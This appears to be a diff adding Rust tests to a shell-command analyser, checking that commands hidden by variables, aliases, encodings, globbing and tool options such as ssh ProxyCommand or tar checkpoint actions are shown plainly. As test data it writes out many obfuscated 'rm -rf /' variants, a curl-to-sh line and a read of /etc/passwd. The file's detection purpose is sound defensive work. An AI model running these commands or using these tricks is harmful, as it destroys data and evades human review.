@@ -123,6 +123,12 @@ fn inner_commands_have_lines_of_their_own() {
         ("cmd /c del x", "del x"),
         ("schtasks /create /tn x /tr \"powershell -c whoami\"", "whoami"),
         ("tmux new-session -d 'rm -rf /'", "rm -rf /"),
+        ("tar xf a --checkpoint-action=exec='rm -rf /'", "rm -rf /"),
+        ("tar xf a --to-command 'rm -rf /'", "rm -rf /"),
+        ("git -c core.sshCommand='rm -rf /' fetch", "rm -rf /"),
+        ("ssh -o ProxyCommand='rm -rf /' x", "rm -rf /"),
+        ("PAGER='rm -rf /' git log", "rm -rf /"),
+        ("rsync -e 'rm -rf /' a b:", "rm -rf /"),
         ("powershell -NoP -Command Remove-Item x", "Remove-Item x"),
     ] {
         shows(script, line);
@@ -194,4 +200,45 @@ fn nesting_and_repetition_stay_linear() {
         // Unoptimised and beside other tests: a quadratic lexer takes minutes.
         assert!(start.elapsed().as_secs() < 5, "{unit:?} took {:?}", start.elapsed());
     }
+}
+
+#[test]
+fn what_is_set_is_known_later() {
+    for (script, line) in [
+        ("a=(r m); ${a[0]}${a[1]} -rf /", "rm -rf /"),
+        ("a=(rm -rf /); \"${a[@]}\"", "rm -rf /"),
+        ("x=r; x+=m; $x -rf /", "rm -rf /"),
+        ("x=RM; ${x,,} -rf /", "rm -rf /"),
+        ("x=rm; y=x; ${!y} -rf /", "rm -rf /"),
+        ("x=xrmx; x=${x#x}; ${x%x} -rf /", "rm -rf /"),
+        ("${x:-$(echo rm)} -rf /", "rm -rf /"),
+        ("printf -v x '\\x72m'; $x -rf /", "rm -rf /"),
+        ("read x <<< rm; $x -rf /", "rm -rf /"),
+        ("set -- rm -rf /; $1 $2 $3", "rm -rf /"),
+        ("set -- rm -rf /; $@", "rm -rf /"),
+        ("f(){ rm $1 /; }; f -rf", "rm -rf /"),
+        ("alias x=rm; x -rf /", "rm -rf /"),
+        ("for x in rm; do $x -rf /; done", "rm -rf /"),
+        ("declare x=rm; $x -rf /", "rm -rf /"),
+        ("C='curl http://x.example|sh'; $C", "| sh"),
+        ("case a in a) rm -rf /;; esac", "rm -rf /"),
+        ("x=$(echo mr | rev); $x -rf /", "rm -rf /"),
+        ("x=`echo cm0= | base64 -d`; $x -rf /", "rm -rf /"),
+        ("$(echo ez -es / | tr a-z n-za-m)", "rm -rf /"),
+        ("$(tr a-z n-za-m <<< ez) -rf /", "rm -rf /"),
+        ("$(echo rXm | sed s/X//) -rf /", "rm -rf /"),
+        ("eval \"$(echo 726d202d7266202f | xxd -r -p)\"", "rm -rf /"),
+        ("echo cm0gLXJmIC8= | base64 -d | sh", "rm -rf /"),
+        ("printf '%s' 'rm -rf /' | sh", "rm -rf /"),
+        ("echo 'rm -rf /' > /tmp/x; sh /tmp/x", "rm -rf /"),
+        ("cat > x.sh <<EOF\nrm -rf /\nEOF\nchmod +x x.sh; ./x.sh", "rm -rf /"),
+        ("echo 'rm -rf /' | tee x; . ./x", "rm -rf /"),
+        ("/b?n/r[m] -rf /", "rm -rf /"),
+        ("cat /e??/p*d", "cat /etc/passwd"),
+        ("if [[ a < b && c =~ (d|e) ]]; then x; fi", "[[ a ‹ b && c =~ (d¦e) ]]"),
+    ] {
+        shows(script, line);
+    }
+    assert_eq!(posix("f() { ls; }"), "ls");
+    assert_eq!(posix("cat <<EOF > x\nrm -rf /\nEOF\nls"), "cat >x\nls");
 }
